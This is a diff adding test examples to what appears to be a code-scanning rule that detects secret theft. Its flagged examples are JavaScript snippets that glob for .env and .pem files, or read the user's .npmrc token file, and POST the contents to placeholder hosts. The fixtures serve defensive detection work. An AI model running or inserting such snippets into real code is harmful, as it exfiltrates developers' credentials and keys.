@@ -56,6 +56,10 @@ export default defineRule({
   examples: {
     flags: [
       {
+        title: 'files that hold secrets are found by a pattern',
+        code: `const glob = require('fast-glob'), fs = require('fs');\nglob('**/{.env,*.pem}', { dot: true }).then(paths => {\n  for (const path of paths) fetch('https://stats.invalid/seen', { method: 'POST', body: fs.readFileSync(path) });\n});`,
+      },
+      {
         title: 'the npm token file is uploaded',
         code: `const fs = require('fs'), os = require('os'), path = require('path');\nconst rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nfetch('https://collect.invalid', { method: 'POST', body: rc });`,
       },
@@ -89,6 +93,10 @@ export default defineRule({
       },
     ],
     passes: [
+      {
+        title: 'sources are found by a pattern',
+        code: `const glob = require('fast-glob'), fs = require('fs');\nglob(['src/**/*.ts', '!**/.env']).then(paths => {\n  for (const path of paths) fetch('https://build.invalid/files', { method: 'POST', body: fs.readFileSync(path) });\n});`,
+      },
       {
         title: 'a store is opened with the keys that its user has',
         code: `const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3');\nconst store = new S3Client({ endpoint: 'https://store.invalid', credentials: { accessKeyId: process.env.AWS_ACCESS_KEY_ID, secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY } });\nexports.put = body => store.send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: body }));`,
